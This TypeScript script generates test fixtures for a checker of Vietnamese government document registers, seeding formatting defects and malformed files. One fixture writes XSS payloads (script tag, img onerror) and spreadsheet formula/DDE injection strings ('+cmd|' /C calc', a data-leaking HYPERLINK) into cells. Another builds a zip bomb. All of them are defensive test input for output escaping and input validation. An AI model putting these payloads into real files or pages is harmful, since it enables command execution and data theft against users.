// npm run fixtures — regenerates every fixture under fixtures/ with its expected-findings sidecar.
// Deterministic: fixed seeds, fixed workbook dates and zip timestamps, no clock. Each seeded defect
// declares the finding it must produce, so a sidecar is the seeding, never a snapshot of the tool's
// own output. Topic modules (scripts/fixtures/<topic>.ts) add their fixtures through FIXTURE_MODULES.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  AGENCY,
  outgoingCells,
  pad2,
  pick,
  rng,
  SENDERS,
  SIGNERS,
  weekdays,
  type Expect,
  type FixtureEntry,
  type OutgoingSpec,
} from './fixtures/data.js';
import { writeRegisterSheet, type ExpectedFinding, type Layout } from './fixtures/write.js';
import { makeZip, patchZipEntry, readZip } from './fixtures/zip.js';
import {
  COVER_DEN,
  COVER_DI,
  DEFAULT_ARGS,
  e,
  INCOMING_COLUMNS,
  newWorkbook,
  OUT,
  OUTGOING_COLUMNS,
  saveWorkbook,
  severityOf,
  sidecar,
} from './fixtures/common.js';
import { FIXTURE_MODULES } from './fixtures/modules.js';

// --- outgoing content ----------------------------------------------------------------------------

export const TYPES = ['QĐ', 'cv', 'cv', 'TB', 'KH', 'BC', 'cv', 'GM', 'TTr', 'QĐ'];

export function outgoingSeries(seed: number, count: number, overrides: ReadonlyMap<number, Partial<OutgoingSpec> & { expect?: Expect[]; skip?: boolean; extra?: FixtureEntry }>): FixtureEntry[] {
  const r = rng(seed);
  const dates = weekdays(2024, 1, count + 40);
  const out: FixtureEntry[] = [];
  let day = 0;
  for (let n = 1; n <= count; n++) {
    if (r() < 0.55) day++;
    const o = overrides.get(n);
    const spec: OutgoingSpec = { number: n, type: o?.type ?? pick(r, TYPES), date: o?.date ?? dates[day]!, ...(o?.symbol ? { symbol: o.symbol } : {}) };
    const cells = outgoingCells(spec, r);
    if (o?.skip) continue;
    out.push({ cells, ...(o?.expect ? { expect: o.expect } : {}) });
    if (o?.extra) out.push(o.extra);
  }
  return out;
}

// --- fixtures ------------------------------------------------------------------------------------

async function cleanOutgoing(): Promise<void> {
  const wb = newWorkbook();
  const ws = wb.addWorksheet('Sổ đi 2024');
  const entries = outgoingSeries(1, 60, new Map());
  // A legal-normative decision and two copies run in their own series (Điều 15.1.a; Phụ lục I Phần II).
  const r = rng(99);
  entries.splice(10, 0, { cells: { ...outgoingCells({ number: 1, type: 'QĐ', date: [2024, 1, 19] }, r), symbol: '01/2024/QĐ-UBND', typeAndSubject: 'Quyết định ban hành Quy định quản lý chợ trên địa bàn xã' } });
  entries.splice(20, 0, { cells: { ...outgoingCells({ number: 1, type: 'SY', date: [2024, 2, 1] }, r), symbol: '01/SY-UBND', typeAndSubject: 'Bản sao y Quyết định số 15/QĐ-UBND' } });
  entries.splice(30, 0, { cells: { ...outgoingCells({ number: 2, type: 'SY', date: [2024, 2, 20] }, r), symbol: '02/SY-UBND', typeAndSubject: 'Bản sao y Quyết định số 21/QĐ-UBND' } });
  const w = writeRegisterSheet(ws, { title: COVER_DI(2024), columns: OUTGOING_COLUMNS, indexRow: true, dates: 'date-cell', footer: ['NGƯỜI LẬP SỔ', '(Ký, ghi rõ họ tên)'] }, entries, severityOf('outgoing'));
  await saveWorkbook(wb, 'so-di-2024-chuan.xlsx');
  sidecar('so-di-2024-chuan', {
    description: 'Clean outgoing register, Phụ lục IV layout: cover lines, one header row, (1)…(10) index row, date cells, a QPPL decision and copies in their own series, a signature footer.',
    args: DEFAULT_ARGS,
    registers: [{ sheet: ws.name, kind: 'outgoing', entries: w.entries, year: 2024, headerRow: w.headerRow, columns: w.columns }],
    findings: w.findings,
  });
}

async function seededOutgoing(): Promise<void> {
  const wb = newWorkbook();
  const ws = wb.addWorksheet('Sổ đi');
  const overrides = new Map<number, Partial<OutgoingSpec> & { expect?: Expect[]; skip?: boolean; extra?: FixtureEntry }>([
    [5, { type: 'QĐ', symbol: '5/QĐ-UBND', expect: [e('symbol/leading-zero', 'missing', 'symbol')] }],
    [12, { type: 'QĐ', symbol: '12/QĐ - UBND', expect: [e('symbol/no-spaces', 'spaces', 'symbol')] }],
    [15, { type: 'cv', symbol: '15/CV-UBND', expect: [e('symbol/type-code', 'congVan', 'symbol')] }],
    [18, { type: 'QĐ', symbol: '18/QD-UBND', expect: [e('symbol/letter-dj', 'ascii', 'symbol')] }],
    [21, { type: 'QĐ', symbol: '21/Q\u00D0-UBND', expect: [e('symbol/letter-dj', 'lookalike', 'symbol')] }],
    [25, { skip: true }],
    [26, { skip: true }],
    [27, { expect: [e('numbering/gap', 'gap', 'symbol')] }],
    [
      30,
      {
        type: 'TB',
        extra: {
          cells: { symbol: '30/TB-UBND', issuedDate: { date: [2024, 2, 26] }, typeAndSubject: 'Thông báo lịch trực Tết', signer: SIGNERS[0]!, recipients: 'Các ấp', copies: 3, dispatchDate: { date: [2024, 2, 26] } },
          expect: [e('numbering/duplicate', 'duplicate', 'symbol')],
        },
      },
    ],
    [33, { type: 'cv', symbol: '33/UBND-VHXH' }],
  ]);
  const entries = outgoingSeries(2, 45, overrides);
  // Two-row merged header: "Văn bản" over symbol/date/subject; the others merged over both rows.
  const columns = OUTGOING_COLUMNS.map((c, i) => (i < 3 ? { ...c, group: 'Văn bản đi', header: ['Số, ký hiệu', 'Ngày tháng', 'Tên loại và trích yếu nội dung'][i]! } : c));
  const w = writeRegisterSheet(ws, { title: COVER_DI(2024), columns, indexRow: true, dates: 'date-cell' }, entries, severityOf('outgoing'));
  await saveWorkbook(wb, 'so-di-2024-loi.xlsx');
  sidecar('so-di-2024-loi', {
    description: 'Outgoing register with seeded defects (missing leading zero, spaces, CV code, D for Đ, the Ð look-alike, a gap 25–26, a duplicate 30) under a two-row merged header.',
    args: DEFAULT_ARGS,
    registers: [{ sheet: ws.name, kind: 'outgoing', entries: w.entries, year: 2024, headerRow: w.headerRow, columns: w.columns }],
    findings: w.findings,
  });
}

async function exportedOutgoing(): Promise<void> {
  // An e-office export: exporter title, other column order, split type and subject, text dates in
  // five formats, rich text and formula cells, a hyperlink, an NFD name; plus a statistics sheet.
  const wb = newWorkbook();
  const ws = wb.addWorksheet('DanhSachVanBanDi');
  const r = rng(3);
  const dates = weekdays(2024, 3, 40);
  const entries: FixtureEntry[] = [];
  for (let n = 1; n <= 30; n++) {
    const type = pick(r, TYPES);
    const cells = outgoingCells({ number: n, type, date: dates[n]! }, r);
    const typeName = type === 'cv' ? 'Công văn' : ({ QĐ: 'Quyết định', TB: 'Thông báo', KH: 'Kế hoạch', BC: 'Báo cáo', GM: 'Giấy mời', TTr: 'Tờ trình' } as Record<string, string>)[type]!;
    const { typeAndSubject, ...rest } = cells;
    const subject = String(typeAndSubject).replace(/^(Công văn |Quyết định |Thông báo |Kế hoạch |Báo cáo |Giấy mời |Tờ trình )/, '');
    entries.push({ cells: { index: n, ...rest, type: typeName, subject } });
  }
  const setSymbol = (i: number, symbol: FixtureEntry['cells']['symbol'], expect?: Expect[]): void => {
    const old = entries[i]!;
    entries[i] = { cells: { ...old.cells, symbol: symbol! }, ...(expect ? { expect } : {}) };
  };
  // The same symbol as written, stored as rich text in two runs.
  const fourth = String(entries[3]!.cells.symbol);
  setSymbol(3, { rich: [fourth.slice(0, 3), fourth.slice(3)] });
  setSymbol(6, { link: 'https://vanban.example.invalid/07', text: '07/UBND-VP' });
  // "007" and "07" are the same number: a duplicate once normalised.
  entries.splice(7, 0, { cells: { ...entries[6]!.cells, index: 7, symbol: '007/UBND-KT' }, expect: [e('numbering/duplicate', 'duplicate', 'symbol'), e('symbol/over-padding', 'padded', 'symbol', 'warning')] });
  const ninth = entries[9]!;
  entries[9] = { cells: { ...ninth.cells, signer: 'Nguyễn Văn Hùng'.normalize('NFD'), issuedDate: { formula: 'B10+1', result: { date: dates[9]! } } } };
  const columns: Layout['columns'] = [
    { field: 'index', header: 'STT' },
    { field: 'issuedDate', header: 'Ngày ban hành' },
    { field: 'symbol', header: 'Số/Ký hiệu' },
    { field: 'type', header: 'Loại văn bản' },
    { field: 'subject', header: 'Trích yếu' },
    { field: 'signer', header: 'Người ký' },
    { field: 'recipients', header: 'Nơi nhận' },
    { field: 'dispatchDate', header: 'Ngày phát hành' },
    { field: 'copies', header: 'Số bản' },
    { field: 'retainedBy', header: 'Nơi lưu' },
    { field: 'receivedSignature', header: 'Ký nhận' },
    { field: 'notes', header: 'Ghi chú' },
  ];
  const w = writeRegisterSheet(ws, { title: ['DANH SÁCH VĂN BẢN ĐI', 'Ngày xuất: 31/12/2024'], gapAfterTitle: 0, columns, indexRow: false, dates: 'mixed-text' }, entries, severityOf('outgoing'));
  const stats = wb.addWorksheet('Thống kê');
  stats.addRow(['Loại văn bản', 'Số lượng']);
  stats.addRow(['Quyết định', 12]);
  stats.addRow(['Công văn', 18]);
  await saveWorkbook(wb, 'so-di-2024-xuat-phan-mem.xlsx');
  sidecar('so-di-2024-xuat-phan-mem', {
    description: 'E-office export: exporter title, columns in another order, split type/subject, text dates in five formats, rich text, formula and hyperlink cells, an NFD name, 007 vs 07 duplicate, and a statistics sheet that is skipped.',
    args: DEFAULT_ARGS,
    registers: [{ sheet: ws.name, kind: 'outgoing', entries: w.entries, year: 2024, headerRow: w.headerRow, columns: w.columns }],
    findings: [...w.findings, { ruleId: 'register/sheet-skipped', severity: 'info', messageId: 'noHeader', sheet: 'Thống kê', row: null, column: null }],
  });
}

export function incomingEntries(seed: number, count: number, seeded: ReadonlyMap<number, { symbol: string; author?: string; issued?: readonly [number, number, number]; expect?: Expect[] }>): FixtureEntry[] {
  const r = rng(seed);
  const dates = weekdays(2024, 1, count + 10);
  const out: FixtureEntry[] = [];
  for (let n = 1; n <= count; n++) {
    const sender = pick(r, SENDERS);
    const arrival = dates[n]!;
    const issued = dates[Math.max(0, n - 1 - Math.floor(r() * 2))]!;
    const s = seeded.get(n);
    out.push({
      cells: {
        arrivalDate: { date: arrival },
        arrivalNumber: n,
        author: s?.author ?? sender.author,
        symbol: s?.symbol ?? sender.symbol(10 + Math.floor(r() * 300)),
        issuedDate: { date: s?.issued ?? issued },
        typeAndSubject: pick(r, ['V/v triển khai công tác phòng chống lụt bão', 'Quyết định phân bổ kinh phí', 'V/v báo cáo tình hình thực hiện nhiệm vụ', 'Kế hoạch kiểm tra công tác văn thư, lưu trữ']),
        handler: pick(r, ['Chủ tịch UBND xã', 'Văn phòng - Thống kê', 'Công chức Địa chính', 'Phó Chủ tịch UBND xã']),
        transferDate: { date: arrival },
        receivedSignature: 'Đã nhận',
      },
      ...(s?.expect ? { expect: s.expect } : {}),
    });
  }
  return out;
}

const INCOMING_SEEDS = new Map<number, { symbol: string; author?: string; issued?: readonly [number, number, number]; expect?: Expect[] }>([
  [4, { symbol: '7/QĐ-UBND', author: 'UBND huyện Thanh Bình', expect: [e('symbol/leading-zero', 'missing', 'symbol')] }],
  [9, { symbol: '45/CV-SNV', author: 'Sở Nội vụ tỉnh Đồng Tháp', expect: [e('symbol/type-code', 'congVan', 'symbol')] }],
  [13, { symbol: '123/SNV - VP', author: 'Sở Nội vụ tỉnh Đồng Tháp', expect: [e('symbol/no-spaces', 'spaces', 'symbol')] }],
  // Valid forms that must pass: Party, laws, VBHN, mixed-case codes, a number equal to a year.
  [15, { symbol: '12-NQ/HU', author: 'Huyện ủy Thanh Bình' }],
  [16, { symbol: '20/2023/QH15', author: 'Quốc hội', issued: [2023, 11, 24] }],
  [17, { symbol: '08/VBHN-BTC', author: 'Bộ Tài chính' }],
  [18, { symbol: '1818/TTr-VP', author: 'Văn phòng UBND tỉnh' }],
  [19, { symbol: '439/QĐ-TTg', author: 'Thủ tướng Chính phủ' }],
  [20, { symbol: '09/2020/TTLT-BTC-BNV', author: 'Bộ Tài chính - Bộ Nội vụ', issued: [2020, 6, 15] }],
  [21, { symbol: '2024/QĐ-UBND', author: 'UBND tỉnh Đồng Tháp' }],
  [22, { symbol: '15/CTr-UBND', author: 'UBND huyện Thanh Bình' }],
  [23, { symbol: '07/QyĐ-UBND', author: 'UBND huyện Thanh Bình' }],
]);

async function incoming(): Promise<void> {
  const wb = newWorkbook();
  const ws = wb.addWorksheet('Sổ đến 2024');
  const entries = incomingEntries(4, 30, INCOMING_SEEDS);
  const w = writeRegisterSheet(ws, { title: COVER_DEN(2024), columns: INCOMING_COLUMNS, indexRow: true, dates: 'date-cell' }, entries, severityOf('incoming'));
  await saveWorkbook(wb, 'so-den-2024.xlsx');
  sidecar('so-den-2024', {
    description: 'Incoming register, Phụ lục IV layout: sender symbols with defects are warnings (the clerk copies them), valid Party/QPPL/law/VBHN/mixed-case forms pass.',
    args: DEFAULT_ARGS,
    registers: [{ sheet: ws.name, kind: 'incoming', entries: w.entries, year: 2024, headerRow: w.headerRow, columns: w.columns }],
    findings: w.findings,
  });
}

function csvField(v: unknown): string {
  const s = typeof v === 'object' && v !== null && 'date' in v ? (v as { date: number[] }).date.map((x, i) => (i === 0 ? String(x) : pad2(x))).reverse().join('/') : String(v ?? '');
  return /[",\n;]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

function incomingCsv(): void {
  const entries = incomingEntries(5, 20, new Map([[6, { symbol: '5/TB-SNV', author: 'Sở Nội vụ tỉnh Đồng Tháp', expect: [e('symbol/leading-zero', 'missing', 'symbol')] }]]));
  const header = ['Số đến', 'Ngày đến', 'Cơ quan ban hành', 'Số ký hiệu', 'Ngày văn bản', 'Trích yếu', 'Người xử lý', 'Ngày chuyển', 'Ghi chú'];
  const fields = ['arrivalNumber', 'arrivalDate', 'author', 'symbol', 'issuedDate', 'typeAndSubject', 'handler', 'transferDate', 'notes'] as const;
  const lines = [header.join(',')];
  // The export has no "Ký nhận" column: a Phụ lục IV minimum column missing (reported at the header).
  const findings: ExpectedFinding[] = [{ ruleId: 'register/form', severity: 'warning', messageId: 'missingColumn', sheet: '', row: 1, column: null }];
  let line = 2;
  for (const en of entries) {
    const values = fields.map((f) => csvField(f === 'typeAndSubject' ? `${en.cells[f] as string}, đợt 1` : en.cells[f]));
    lines.push(values.join(','));
    for (const x of en.expect ?? []) findings.push({ ruleId: x.ruleId, severity: 'warning', messageId: x.messageId, sheet: '', row: line, column: 'D' });
    line++;
  }
  writeFileSync(join(OUT, 'so-den-2024-xuat.csv'), `\uFEFF${lines.join('\r\n')}\r\n`);
  sidecar('so-den-2024-xuat', {
    description: 'Incoming register exported as CSV with a UTF-8 BOM, CRLF, quoted fields with commas; columns named as e-office systems do.',
    args: DEFAULT_ARGS,
    registers: [{ sheet: '', kind: 'incoming', entries: entries.length, year: 2024, headerRow: 1 }],
    findings,
  });
}

async function libreOffice1904(): Promise<void> {
  // LibreOffice writes <workbookPr date1904="true"/>, which exceljs misreads (dates 1,462 days early).
  // Written with the 1904 system so the stored serials are 1904-based, then the flag patched to "true".
  const wb = newWorkbook();
  wb.properties.date1904 = true;
  const ws = wb.addWorksheet('Sheet1');
  const entries = outgoingSeries(6, 20, new Map([[9, { type: 'QĐ', symbol: '9/QĐ-UBND', expect: [e('symbol/leading-zero', 'missing', 'symbol')] }]]));
  const w = writeRegisterSheet(ws, { title: COVER_DI(2024), columns: OUTGOING_COLUMNS, indexRow: true, dates: 'date-cell' }, entries, severityOf('outgoing'));
  const buf = Buffer.from(await wb.xlsx.writeBuffer());
  const patched = patchZipEntry(buf, 'xl/workbook.xml', (xml) => xml.replace(/date1904="1"/, 'date1904="true"'));
  const workbookXml = readZip(patched).find((z) => z.name === 'xl/workbook.xml');
  if (!workbookXml || !Buffer.from(workbookXml.data).toString('utf8').includes('date1904="true"')) throw new Error('1904 flag missing');
  writeFileSync(join(OUT, 'so-di-2024-libreoffice-1904.xlsx'), patched);
  sidecar('so-di-2024-libreoffice-1904', {
    description: 'Outgoing register with the 1904 date system flagged as date1904="true" (LibreOffice): dates must read as 2024, not 2020.',
    args: DEFAULT_ARGS,
    registers: [{ sheet: ws.name, kind: 'outgoing', entries: w.entries, year: 2024, headerRow: w.headerRow, columns: w.columns }],
    findings: w.findings,
  });
}

async function hostileText(): Promise<void> {
  // Register text is untrusted: HTML, script and formula-like cells must reach every report as text.
  mkdirSync(join(OUT, 'report'), { recursive: true });
  const wb = newWorkbook();
  const ws = wb.addWorksheet('Sổ đi');
  const entries: FixtureEntry[] = outgoingSeries(12, 6, new Map()).map((en, i) => {
    const cells = { ...en.cells };
    if (i === 1) cells.typeAndSubject = `${String(cells.typeAndSubject)} <script>document.title="pwned"</script>`;
    if (i === 2) cells.signer = '"><img src=x onerror="document.title=\'pwned\'">';
    if (i === 3) cells.notes = '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")';
    if (i === 4) cells.recipients = '+cmd|\' /C calc\'!A0';
    return { cells };
  });
  entries.push({
    cells: { symbol: '<script>alert(1)</script>', issuedDate: { date: [2024, 1, 12] }, typeAndSubject: 'Công văn V/v thử', signer: SIGNERS[0]!, recipients: 'UBND huyện', copies: 1, dispatchDate: { date: [2024, 1, 12] }, notes: '@SUM(1+1)' },
    expect: [e('symbol/unrecognised', 'unrecognised', 'symbol', 'warning')],
  });
  const w = writeRegisterSheet(ws, { title: COVER_DI(2024), columns: OUTGOING_COLUMNS, indexRow: true, dates: 'date-cell' }, entries, severityOf('outgoing'));
  await saveWorkbook(wb, 'report/noi-dung-doc-hai.xlsx');
  sidecar('report/noi-dung-doc-hai', {
    description: 'Cells holding <script>, an "><img onerror> attribute break-out and formula-like text (=HYPERLINK, +cmd, @SUM): every report shows them as text.',
    args: DEFAULT_ARGS,
    registers: [{ sheet: ws.name, kind: 'outgoing', entries: w.entries, year: 2024, headerRow: w.headerRow, columns: w.columns }],
    findings: w.findings,
  });
}

async function notARegister(): Promise<void> {
  const wb = newWorkbook();
  const ws = wb.addWorksheet('Báo cáo');
  ws.addRow(['BÁO CÁO THỐNG KÊ CÔNG TÁC VĂN THƯ NĂM 2024']);
  ws.addRow(['Chỉ tiêu', 'Số lượng', 'Ghi chú']);
  ws.addRow(['Văn bản đi', 412, '']);
  ws.addRow(['Văn bản đến', 1093, '']);
  await saveWorkbook(wb, 'khong-phai-so.xlsx');
  sidecar('khong-phai-so', {
    description: 'A statistics workbook with no register in it: a file-level not-a-register error (exit 2).',
    args: DEFAULT_ARGS,
    error: { code: 'not-a-register' },
    registers: [],
    findings: [{ ruleId: 'register/sheet-skipped', severity: 'info', messageId: 'noHeader', sheet: 'Báo cáo', row: null, column: null }],
  });
}

function badInputs(): void {
  const dir = join(OUT, 'bad');
  mkdirSync(dir, { recursive: true });
  const r = rng(7);
  const random = Buffer.alloc(4096);
  for (let i = 0; i < random.length; i++) random[i] = Math.floor(r() * 256);
  // A compound-file header (D0 CF 11 E0 …) as Office uses for .xls and for encrypted .xlsx; the
  // encrypted kind carries the stream names EncryptionInfo / EncryptedPackage in UTF-16LE.
  // Directory entries are 128 bytes: the UTF-16LE name, then its byte length (with the NUL) at +64.
  const cfb = (streams: readonly string[]): Buffer => {
    const head = Buffer.alloc(1024 + 128 * (streams.length + 1));
    Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(head, 0);
    head.writeUInt16LE(0x003e, 24);
    head.writeUInt16LE(0x0003, 26);
    head.writeUInt16LE(0xfffe, 28);
    ['Root Entry', ...streams].forEach((name, i) => {
      const at = 512 + 512 + i * 128;
      Buffer.from(name, 'utf16le').copy(head, at);
      head.writeUInt16LE((name.length + 1) * 2, at + 64);
    });
    return head;
  };
  const good = readFileSync(join(OUT, 'so-di-2024-chuan.xlsx'));
  type Expected = { ruleId: string; severity: string; messageId: string; sheet: string; row: number | null; column: string | null };
  const renamed: Expected = { ruleId: 'input/renamed-file', severity: 'info', messageId: 'renamed', sheet: '', row: null, column: null };
  const files: Record<string, { bytes: Buffer; code: string; description: string; findings?: Expected[] }> = {
    'empty.xlsx': { bytes: Buffer.alloc(0), code: 'empty', description: 'zero bytes' },
    'random.xlsx': { bytes: random, code: 'unsupported-type', description: 'random bytes named .xlsx' },
    'truncated.xlsx': { bytes: good.subarray(0, Math.floor(good.length / 2)), code: 'truncated', description: 'the first half of a real workbook' },
    'encrypted.xlsx': { bytes: cfb(['EncryptionInfo', 'EncryptedPackage']), code: 'encrypted', description: 'a password-protected (CFB) workbook' },
    'old-format.xlsx': { bytes: cfb(['Workbook']), code: 'corrupt', description: 'an Excel 97–2003 compound file whose header is damaged (sector size 2^0), named .xlsx' },
    'ods-renamed.xlsx': {
      bytes: makeZip([
        { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'), store: true },
        { name: 'content.xml', data: Buffer.from('<office:document-content/>') },
      ]),
      code: 'not-a-register',
      description: 'an OpenDocument spreadsheet with no sheet, renamed .xlsx: read as .ods (said), then not a register',
      findings: [renamed],
    },
    'zip-bomb.xlsx': {
      bytes: makeZip([
        { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
        { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
        { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(200 * 1024 * 1024, 0x20) },
      ]),
      code: 'zip-bomb',
      description: '200 MB of sheet XML deflated to a few hundred KB',
    },
  };
  for (const [name, f] of Object.entries(files)) {
    writeFileSync(join(dir, name), f.bytes);
    sidecar(`bad/${name.replace(/\.\w+$/, '')}`, { description: f.description, args: DEFAULT_ARGS, error: { code: f.code }, registers: [], findings: f.findings ?? [] });
  }
  // A real register's CSV export named .xlsx is read by its content: the CSV's own findings, and a word on the name.
  const csv = JSON.parse(readFileSync(join(OUT, 'so-den-2024-xuat.expected.json'), 'utf8')) as { registers: unknown[]; findings: Expected[] };
  writeFileSync(join(dir, 'csv-renamed.xlsx'), readFileSync(join(OUT, 'so-den-2024-xuat.csv')));
  sidecar('bad/csv-renamed', {
    description: 'the incoming register so-den-2024-xuat.csv named .xlsx: read as CSV, its findings plus one on the name',
    args: DEFAULT_ARGS,
    registers: csv.registers,
    findings: [...csv.findings, renamed],
  } as Parameters<typeof sidecar>[1]);
}

/** samples/: what `npm start` checks — a few realistic registers of the fixture commune, and its config. */
function writeSamples(): void {
  const dir = join(OUT, '..', 'samples');
  mkdirSync(dir, { recursive: true });
  const pick = ['so-di-2024-loi.xlsx', 'so-di-2024-xuat-phan-mem.xlsx', 'so-den-2024.xlsx', 'so-den-2024-xuat.csv'];
  for (const name of pick) writeFileSync(join(dir, name), readFileSync(join(OUT, name)));
  writeFileSync(join(dir, 'vanthu.config.json'), readFileSync(join(OUT, 'vanthu.config.json')));
}

async function main(): Promise<void> {
  mkdirSync(OUT, { recursive: true });
  writeFileSync(
    join(OUT, 'vanthu.config.json'),
    `${JSON.stringify({ agency: { name: 'UBND xã Bình Tấn', issuer: AGENCY.issuer, units: AGENCY.units } }, null, 2)}\n`,
  );
  await cleanOutgoing();
  await seededOutgoing();
  await exportedOutgoing();
  await incoming();
  incomingCsv();
  await libreOffice1904();
  await notARegister();
  await hostileText();
  badInputs();
  for (const build of FIXTURE_MODULES) await build();
  writeSamples();
  process.stdout.write('fixtures written to fixtures/\n');
}

await main();
